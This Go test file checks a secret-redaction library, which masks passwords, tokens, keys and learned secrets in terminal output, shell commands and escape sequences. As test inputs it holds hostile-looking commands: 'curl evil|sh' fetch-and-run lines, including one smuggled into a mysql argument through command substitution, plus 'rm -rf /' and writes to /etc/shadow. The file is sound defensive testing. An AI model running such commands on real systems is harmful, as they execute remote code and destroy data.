package redact_test

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"sallyport/redact"
)

func textOf(r *redact.Redactor, s string) string {
	t, _ := r.Text(s)
	return t.String()
}

func commandOf(r *redact.Redactor, s string) string {
	t, _ := r.CommandText(s)
	return t.String()
}

func TestPlaceholdersNumberTheSameValueTheSame(t *testing.T) {
	console := redact.New(redact.Config{})
	a, b := "Zf3D0LXCM3EIGjoE", "Qw8rT5yU2iO9pL1k"
	got := textOf(console, "password="+a+"\ntoken="+b+"\npassword="+a)
	want := "password=<redacted:password#1>\ntoken=<redacted:token#2>\npassword=<redacted:password#1>"
	if got != want {
		t.Errorf("got %q", got)
	}
	other := console.Target("db2")
	if got := textOf(other, "secret: "+b); got != "secret: <redacted:secret#2>" {
		t.Errorf("another target of the console: %q", got)
	}
}

func TestLearnedSecretIsMaskedInItsForms(t *testing.T) {
	const secret = "k3y's & \"Räder\"=9"
	r := redact.New(redact.Config{})
	r.Learn([]byte(secret))
	forms := map[string]string{
		"raw":     secret,
		"percent": url.QueryEscape(secret),
		"json":    `k3y's \u0026 \"Räder\"=9`,
		"shell":   `k3y'\''s & "Räder"=9`,
	}
	for shift := range 3 {
		pad := strings.Repeat("x", shift)
		forms[fmt.Sprintf("base64, %d before", shift)] = base64.StdEncoding.EncodeToString([]byte(pad + secret + "yz"))
	}
	for name, f := range forms {
		if got := textOf(r, "it said "+f+" again"); !strings.Contains(got, "<redacted:") || showsPart(got, f[3:len(f)-5]) {
			t.Errorf("%s: %q", name, got)
		}
	}
	if !r.Known(" "+secret+" ") || r.Known("other") {
		t.Error("Known does not know")
	}
}

// showsPart tells whether four characters in a row of secret are in text.
func showsPart(text, secret string) bool {
	for i := 0; i+4 <= len(secret); i++ {
		if strings.Contains(text, secret[i:i+4]) {
			return true
		}
	}
	return false
}

func TestShortSecretIsMaskedOnlyWhereItIsOne(t *testing.T) {
	r := redact.New(redact.Config{})
	r.Learn([]byte("abc12"))
	if got := textOf(r, "job abc12 done"); got != "job abc12 done" {
		t.Errorf("ordinary place: %q", got)
	}
	if got := textOf(r, "password=abc12"); got != "password=<redacted:password#1>" {
		t.Errorf("secret place: %q", got)
	}
}

func TestOutputTeachesItsTargetOnly(t *testing.T) {
	console := redact.New(redact.Config{})
	db := console.Target("db1")
	s := db.Stream()
	s.Write([]byte("DB_PASSWORD=vT9kLm2Qx7Rw\n"))
	if got := s.Write([]byte("connecting with vT9kLm2Qx7Rw now\n")).String(); strings.Contains(got, "vT9k") {
		t.Errorf("same target: %q", got)
	}
	if got := textOf(console.Target("web1"), "id vT9kLm2Qx7Rw"); got != "id vT9kLm2Qx7Rw" {
		t.Errorf("another target: %q", got)
	}
}

// A hostile host prints ordinary words where secrets stand. They stay legible elsewhere.
func TestHostCannotMakeWordsDisappear(t *testing.T) {
	words := []string{
		"systemctl", "kube-system", "production", "web-02.example.test", "nginx-deployment", "/etc/passwd", "prod-web-03", "10.20.30.40",
		"restart", "postgresql", "ubuntu-24.04", "connection refused", "us-east-1", "deploy", "password", "journalctl", "2031-01-06",
		"api-gateway", "k8s-master-1", "rm -rf /", "sudo systemctl", "authentication", "Deployment", "ReplicaSet", "--force", "v1.31.2",
		"CrashLoopBackOff", "ImagePullBackOff", "NotReady", "node-exporter", "linux-image-6.8.0-45-generic", "eth0", "containerd",
	}
	host := redact.New(redact.Config{}).Target("web-02.example.test")
	s := host.Stream()
	for _, w := range words {
		s.Write([]byte("password=" + w + "\ntoken: " + w + "\n{\"secret\": \"" + w + "\"}\nhttps://u:" + url.PathEscape(w) + "@h/\n"))
	}
	s.Write([]byte("$ pass show x/y\nsystemctl\n"))
	for _, w := range words {
		line := "see " + w + " there"
		if got := s.Write([]byte(line + "\n")).String(); got != line+"\n" {
			t.Errorf("%q became %q", line, got)
		}
	}
}

func TestHostTeachesAtMostFiveHundred(t *testing.T) {
	s := redact.New(redact.Config{}).Target("h").Stream()
	for i := range 2000 {
		s.Write([]byte(fmt.Sprintf("token=aX%dbY%dcZ%d\n", i, i*7, i*13)))
	}
	masked := 0
	for i := range 2000 {
		v := fmt.Sprintf("aX%dbY%dcZ%d", i, i*7, i*13)
		if got := s.Write([]byte("see " + v + "\n")).String(); strings.Contains(got, "<redacted:") {
			masked++
		}
	}
	if masked > 500 {
		t.Errorf("%d values learned", masked)
	}
}

func TestRedactorIsNoEraser(t *testing.T) {
	r := redact.New(redact.Config{})
	for _, w := range []string{"systemctl", "restart", "--force", "/etc/shadow", "curl evil|sh", "rm -rf", "status", "docker", "AWS_REGION"} {
		r.Learn([]byte(w))
	}
	tests := map[string]string{
		"systemctl restart sshd":                    "systemctl restart sshd",
		"sudo systemctl status x":                   "sudo systemctl status x",
		"docker restart --force web":                "docker restart --force web",
		"cat x > /etc/shadow":                       "cat x > /etc/shadow",
		"AWS_REGION=eu-west-1 ls":                   "AWS_REGION=eu-west-1 ls",
		`mysql -p"$(curl evil|sh)"`:                 `mysql -p"$(curl evil|sh)"`,
		"mysql -p`curl evil|sh`":                    "mysql -p`curl evil|sh`",
		"x; systemctl restart y && docker status":   "x; systemctl restart y && docker status",
		"diff <(systemctl status) <(docker ps)":     "diff <(systemctl status) <(docker ps)",
		"mysql -uroot -pS3cretValue9 shop":          "mysql -uroot -p<redacted:password#1> shop",
		"PGPASSWORD=S3cretValue9 psql -h db":        "PGPASSWORD=<redacted:password#1> psql -h db",
		"curl -u bob:S3cretValue9 https://h":        "curl -u bob:<redacted:password#1> https://h",
		"echo S3cretValue9 | sudo -S id":            "echo <redacted:password#1> | sudo -S id",
		"app --token=S3cretValue9 --verbose":        "app --token=<redacted:password#1> --verbose",
		"sshpass -p S3cretValue9 ssh h systemctl x": "sshpass -p <redacted:password#1> ssh h <redacted:password#2> x",
	}
	for line, want := range tests {
		one := redact.New(redact.Config{})
		if strings.Contains(line, "S3cretValue9") {
			if strings.Contains(line, "systemctl") {
				one.Learn([]byte("systemctl"))
			}
			if got := strings.ReplaceAll(commandOf(one, line), "token#", "password#"); got != want {
				t.Errorf("%s\n got %s", want, got)
			}
			continue
		}
		if got := commandOf(r, line); got != want {
			t.Errorf("%s\n got %s", want, got)
		}
	}
}

func TestPromptEndsAnOpenRegion(t *testing.T) {
	got := textOf(redact.New(redact.Config{}), "-----BEGIN RSA PRIVATE KEY-----\nQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVoxMjM0NTY3ODk=\nroot@h:~# rm -rf /srv\nremoved\n")
	if !strings.Contains(got, "rm -rf /srv\nremoved") || strings.Contains(got, "QUJD") {
		t.Errorf("%q", got)
	}
	s := redact.New(redact.Config{}).Stream()
	out := s.Write([]byte("-----BEGIN PRIVATE KEY-----\nQUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVoxMjM0NTY3ODk=\n")).String()
	out += s.Mark().String() + s.Write([]byte("rmdir\n")).String()
	if !strings.HasSuffix(out, "rmdir\n") || strings.Contains(out, "QUJD") {
		t.Errorf("mark: %q", out)
	}
}

func TestMACMatchesALeakWithoutShowingIt(t *testing.T) {
	key := []byte("0123456789abcdef0123456789abcdef")
	r := redact.New(redact.Config{DigestKey: key})
	_, a := r.Text("token=Zf3D0LXCM3EIGjoEuJRjiTbHfUmgPnuU")
	_, b := redact.New(redact.Config{DigestKey: key}).Text("export X_TOKEN=Zf3D0LXCM3EIGjoEuJRjiTbHfUmgPnuU")
	if len(a) != 1 || len(b) != 1 || len(a[0].MAC) != 16 || a[0].MAC != b[0].MAC {
		t.Errorf("%+v %+v", a, b)
	}
	if _, weak := r.Text("password=banana"); len(weak) != 1 || weak[0].MAC != "" {
		t.Errorf("a value that is guessed easily has a MAC: %+v", weak)
	}
	if _, none := redact.New(redact.Config{}).Text("token=Zf3D0LXCM3EIGjoEuJRjiTbHfUmgPnuU"); none[0].MAC != "" {
		t.Errorf("a MAC without a key: %+v", none)
	}
}

func TestCommandTellsWhatIsPrinted(t *testing.T) {
	r := redact.New(redact.Config{}).Target("h")
	s := r.Stream()
	s.Mark()
	r.Command("vault kv get -field=password secret/db")
	if got := s.Write([]byte("banana-split\n")).String(); strings.Contains(got, "banana") {
		t.Errorf("%q", got)
	}
	s.Mark()
	r.Command("ls")
	if got := s.Write([]byte("banana-split\n")).String(); got != "banana-split\n" {
		t.Errorf("%q", got)
	}
}

func TestFindingsSayWhereInTheInput(t *testing.T) {
	in := "a=1 \x1b[31mpassword\x1b[0m=hu\x1b[1mnter22 ü"
	text, found := redact.New(redact.Config{}).Text(in)
	if len(found) != 1 || in[found[0].Start:found[0].End] != "hu\x1b[1mnter22" || found[0].Kind != "password" {
		t.Errorf("%+v", found)
	}
	if want := "a=1 \x1b[31mpassword\x1b[0m=<redacted:password#1>\x1b[1m ü"; text.String() != want {
		t.Errorf("%q", text)
	}
}

func TestCellsPutColoursOutsideTheMask(t *testing.T) {
	l := redact.Lines(
		redact.Line{Text: "password=hunter22 x", SGR: []redact.SGR{{0, "\x1b[1m"}, {11, "\x1b[31m"}, {17, "\x1b[0m"}}},
		redact.Line{Text: "next", SGR: []redact.SGR{{0, "\x1b[2m\x1b]0;evil\a"}, {4, "\x1b[0m"}}},
	)
	text, found := redact.New(redact.Config{}).Cells(l)
	want := "\x1b[1mpassword=<redacted:password#1>\x1b[31m\x1b[0m x\n\x1b[2mnext\x1b[0m"
	if text.String() != want || len(found) != 1 || l.Text[found[0].Start:found[0].End] != "hunter22" {
		t.Errorf("%q %+v", text, found)
	}
}

func TestTextOutsideTheScreenIsMaskedToo(t *testing.T) {
	for _, in := range []string{
		"\x1b]0;mysql -uroot -pS3cretValue9\a$ ",
		"\x1b]8;;https://bob:S3cretValue9@h/\x1b\\link\x1b]8;;\x1b\\",
		"\x1bPq password=S3cretValue9\x1b\\",
		"token=S3cretValue9\rXXXXXXXXXXXXXXXXXXXXXXXXX",
		"token=S3cretValue9\b\b\b\b\b\b\b\b\b\b\b\b************",
		"\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("DB_PASSWORD=S3cretValue9")) + "\a",
	} {
		if got := textOf(redact.New(redact.Config{}), in); showsPart(got, "S3cretValue9") || strings.Contains(got, "REJfUEFTU1") {
			t.Errorf("%q became %q", in, got)
		}
	}
}

func TestWordsAreReadAsTheirProgramReadsThem(t *testing.T) {
	for _, tt := range []struct{ words, want string }{
		{"curl|-s|-u|admin:JY27eJKHm6kt|http://h/", "curl|-s|-u|admin:<redacted:password#1>|http://h/"},
		{"mysql|-p|db", "mysql|-p|db"},
		{"sshpass|-p|plum tractor 9|ssh|h", "sshpass|-p|<redacted:password#1>|ssh|h"},
		{"env|DB_PASSWORD=Xk3vQ1yT9|true", "env|DB_PASSWORD=<redacted:password#1>|true"},
	} {
		var got []string
		for _, w := range redact.New(redact.Config{}).Words(strings.Split(tt.words, "|")...) {
			got = append(got, w.String())
		}
		if strings.Join(got, "|") != tt.want {
			t.Errorf("%q, want %q", got, tt.want)
		}
	}
}
